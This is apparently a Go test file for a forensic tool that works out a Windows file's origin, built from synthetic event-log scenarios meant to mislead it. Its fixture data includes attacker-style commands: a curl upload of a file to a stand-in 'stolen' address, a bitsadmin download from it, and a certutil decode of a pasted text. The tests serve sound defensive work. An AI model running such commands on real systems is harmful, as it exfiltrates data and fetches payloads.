package origin_test

import (
	"fmt"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/mft/mfttest"
	"github.com/birthmark-dfir/birthmark/origin"
)

// Machines on which records name the file, or its time, or its machine, and are not
// about its origin.
func misleading() []story {
	const curl, stolen = system32 + "curl.exe", "203.0.113.99"
	console := signedOn("08:01:00", anna, 2, "127.0.0.1", "WEB01")
	write := "curl -o " + tool + " " + depotURL
	fetch := []any{console, spawned("11:59:58", 1, curl, write, 2, shell, anna), made("12:00:00.2134567", 1, curl, tool, anna), born(tool, "12:00:00.2134567", anna)}
	byCurl := truth{
		origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
		origin.Writer:   "recorded image=" + curl + " | pid=101",
		origin.Account:  `recorded user=CORP\anna | sid=` + anna.sid + ` | logon_id=0x51a2c`,
		origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
		origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2 | time=2026-03-02T08:01:00Z",
	}
	byOwner := func(more truth) truth {
		t := truth{
			origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
			origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
			origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
		}
		for q, text := range more {
			t[q] = text
		}
		return t
	}
	reader := accessed("12:00:00.3", system, 2400, `C:\Program Files\AV\scan.exe`, tool).(*evtx.Security4663)
	reader.AccessList, reader.AccessMask = "%%4416", 1
	taken := shared("12:00:00.4", lee, stolen, "C$", `C:\`, `ProgramData\Cache\tool.exe`)
	taken[1].(*evtx.Security5145).AccessMask = 0x120089
	var many []evtx.TypedEvent
	for i := range 40 {
		many = append(many, signedOn(fmt.Sprintf("09:%02d:00", i), anna.in(0x51a2c), 10, stolen, "APP07"))
	}
	many = append(many, spawned("11:59:59", 7, system32+"bitsadmin.exe", "bitsadmin /transfer z http://"+stolen+"/z.exe "+tool, 2, explorer, anna),
		made("12:00:00.3", 7, system32+"bitsadmin.exe", tool, anna), spawned("12:30:00", 8, tool, tool, 2, explorer, anna))

	return []story{
		// The collector has more records of others than of its own.
		{"a collector whose hives are missing", box("WEC01", sysmonDay(), fetch,
			logCopy{logFolder + "ForwardedEvents.evtx", "APP07", many}),
			tool, byCurl},

		{"another machine with the same label in another domain", box("WEB01.corp.example",
			hostHive("WEB01", "WEB01", "corp.example"),
			sysmonDay(), fetch,
			forwarded("WEB01.lab.example", signedOn("11:30:00", anna, 10, stolen, "WEB01"), spawned("12:30:00", 9, tool, tool, 2, explorer, anna))),
			tool, byCurl},

		// The name that the machine had until six is that of its sister now.
		{"the former name is another machine's", box("WEB01",
			hostHive("WEB01", "WEB01", ""),
			sysmonDay(), fetch,
			on("05:58:00", of("EC2AMAZ-BUILD", &evtx.System6011{OldName: "EC2AMAZ-BUILD", NewName: "WEB01"})),
			forwarded("EC2AMAZ-BUILD", signedOn("11:30:00", anna, 10, stolen, "EC2AMAZ-BUILD"), spawned("12:30:00", 9, tool, tool, 2, explorer, anna))),
			tool, byCurl},

		{"a machine that joined a domain at noon", box("WEB01",
			hostHive("WEB01", "WEB01", "corp.example"),
			sysmonDay(), fetch,
			of("WEB01.corp.example", spawned("13:00:00", 9, tool, tool, 2, explorer, anna))),
			tool, truth{
				origin.Appeared: byCurl[origin.Appeared],
				origin.Writer:   byCurl[origin.Writer],
				origin.Account:  byCurl[origin.Account],
				origin.Arrival:  byCurl[origin.Arrival],
				origin.Logon:    byCurl[origin.Logon],
				origin.Executed: `recorded time=2026-03-02T13:00:00Z | count=1 | user=CORP\anna`,
			}},

		{"the audit shows a reader", box("WEB01", day(), console, reader,
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(nil)},

		{"a client of the share read it", box("WEB01", day(), console,
			signedOn("11:59:50", lee, 3, stolen, "-"),
			taken,
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(nil)},

		{"a script that only looks at it", box("WEB01", day(), console,
			on("12:00:05",
				&evtx.PowerShell4104{MessageNumber: 1, MessageTotal: 1, ScriptBlockText: "Get-FileHash " + tool + "; iwr https://hashes.example.net/list", ScriptBlockId: "6c0f1d5e-0000-4000-8000-000000000004"}),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(nil)},

		{"Defender names who opened it", box("WEB01", day(), console,
			on("15:00:00",
				&evtx.Defender1116{ProductName: "%%827", ThreatName: "Trojan:Win32/Example", SourceName: "%%818", ProcessName: explorer, DetectionUser: lee.String(), Path: "file:_" + tool}),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(truth{origin.Writer: "unknown not=explorer"})},

		{"a request in the second in which a user wrote it", box("WEB01", auditedDay(), console,
			ran("11:59:58", 4312, shell, `cmd /c copy D:\tool.exe `+tool, 3100, explorer, anna),
			ended("12:00:02", 4312, shell, anna),
			iis("date time s-ip cs-method cs-uri-stem s-port c-ip sc-status time-taken", "06:30:00 10.0.4.15 GET / 443 192.0.2.9 200 5",
				"12:00:00 10.0.4.15 POST /order.aspx 443 192.0.2.31 200 40", "19:50:00 10.0.4.15 GET / 443 192.0.2.9 200 5"),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(truth{origin.Writer: "inferred image=" + shell + " | pid=4312", origin.Arrival: `unknown kind=copied | via=D:\tool.exe`})},

		{"what sends it away is not where it came from", box("WEB01", sysmonDay(), console,
			spawned("11:59:58", 1, shell, `cmd /c copy C:\Build\tool.exe `+tool+` & curl -T `+tool+` http://`+stolen+`/in`, 2, explorer, anna),
			spawned("12:00:01", 3, curl, `curl -T `+tool+` http://`+stolen+`/in`, 1, shell, anna),
			dialled("12:00:02", 3, curl, stolen, 80),
			made("12:00:00.2134567", 1, shell, tool, anna),
			born(`C:\Build\tool.exe`, "09:00:00.1", anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + shell + " | pid=101",
				origin.Account:  `recorded user=CORP\anna`,
				origin.Arrival:  `unknown kind=copied | via=C:\Build\tool.exe | url=none`,
				origin.Logon:    "recorded logon_id=0x51a2c | logon_type=2",
			}},

		{"certutil decodes a text", box("WEB01", auditedDay(), console,
			ran("11:59:58", 4312, system32+"certutil.exe", `certutil -decode C:\Users\anna\note.txt `+tool, 3100, explorer, anna),
			ended("12:00:02", 4312, system32+"certutil.exe", anna),
			born(`C:\Users\anna\note.txt`, "11:00:00.1", anna, marked(3, "https://paste.example.net/raw/x", "")),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(truth{origin.Writer: "inferred image=" + system32 + "certutil.exe | pid=4312",
				origin.Arrival: `unknown kind=copied | kind=dropped | kind=download | kind=extracted | via=C:\Users\anna\note.txt | url=https://paste.example.net/raw/x`})},

		{"a task that deletes it", box("WEB01", day(), console,
			born(tool, "12:00:00.2134567", anna),
			on("12:10:00",
				&evtx.Security4698{SubjectUserSid: lee.sid, SubjectUserName: lee.name, SubjectDomainName: lee.domain, SubjectLogonId: lee.logon, TaskName: `\Clean`, TaskContent: taskXML(lee.String(), "cmd.exe", "/c del /q "+tool)}),
			on("12:10:01",
				&evtx.System7045{ServiceName: "Scan", ImagePath: `"C:\Program Files\AV\scan.exe" /exclude ` + tool, ServiceType: "user mode service", StartType: "auto start", AccountName: "LocalSystem"})),
			tool, byOwner(nil)},

		{"a run of a file that had the path before", box("WEB01", auditedDay(), console,
			ran("09:00:00", 5000, tool, tool, 3100, explorer, lee),
			ended("09:05:00", 5000, tool, lee),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(nil)},

		{"two programs were told the path", box("WEB01", auditedDay(), console,
			ran("11:59:50", 4400, `C:\Program Files\AV\scan.exe`, `scan.exe /watch `+tool, 900, svchost, system),
			ended("12:03:00", 4400, `C:\Program Files\AV\scan.exe`, system),
			ran("11:59:58", 4312, curl, write, 3100, explorer, anna),
			ended("12:00:02", 4312, curl, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, byOwner(truth{origin.Writer: "inferred image=" + curl + " | pid=4312", origin.Arrival: "inferred kind=download | url=" + depotURL + " | address=" + depot})},

		// Zone 0 is this machine, and zone 1 the local network.
		{"a mark of this machine", box("WEB01", day(), console,
			mfttest.File{Path: inVolume(tool), Data: []byte("t"), Owner: anna.sid, Times: mfttest.AllAt(clock("12:00:00.2134567")),
				Streams: []mfttest.Stream{marked(0, "", "")}}),
			tool, byOwner(truth{origin.Arrival: "unknown not=it has no Zone.Identifier"})},
	}
}
